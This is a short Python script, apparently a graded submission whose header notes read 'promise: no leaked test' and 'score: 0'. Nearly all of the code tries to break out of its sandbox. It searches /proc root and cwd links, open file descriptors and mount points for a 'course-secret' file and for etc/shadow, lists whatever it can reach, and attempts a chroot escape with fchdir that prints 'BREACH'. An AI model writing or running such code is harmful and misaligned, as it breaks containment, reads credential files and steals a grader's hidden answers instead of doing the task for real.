# Climbs out of its root: .., the roots of other processes, open folders, the place where the old root was.
# promise: no leaked test
# status: graded
# score: 0
# prints: searched
# %% loot
import glob
import os

loot = ["out"]
ways = ["/../..", "/proc/1/root", "/proc/self/root/..", "/old", "/.old", "/mnt", "/media", "/run", "/proc/1/cwd", "/proc/self/cwd/.."]
ways += glob.glob("/proc/self/fd/*/..")
for way in ways:
    for wanted in ("course-secret", ".course-secret", "course/.course-secret", "etc/shadow"):
        try:
            loot.append(open(os.path.join(way, wanted)).read())
        except OSError:
            pass
    try:
        loot.append(way + str(os.listdir(way)))
    except OSError:
        pass
try:
    held = os.open("/", os.O_RDONLY)
    os.chroot("/tmp")
    os.fchdir(held)
    os.chdir("../../../..")
    print("BREACH chroot", os.listdir("."))
except OSError as error:
    loot.append(str(error))
